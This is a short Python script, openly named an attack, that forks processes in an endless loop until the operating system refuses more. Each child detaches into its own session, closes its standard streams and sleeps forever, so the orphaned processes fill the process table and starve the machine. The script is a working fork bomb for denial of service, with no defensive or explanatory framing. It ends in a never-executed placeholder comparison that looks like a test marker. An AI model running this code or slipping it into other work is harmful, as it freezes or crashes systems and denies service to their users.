"""Leaves processes behind until there can be no more, each in a session of its own with its output closed."""
import os
import signal


def attack():
    while True:
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            os.setsid()
            for descriptor in range(3):
                os.close(descriptor)
            while True:
                signal.pause()
    if "@END@" == "fail":
        raise SystemExit("the crowd is there")
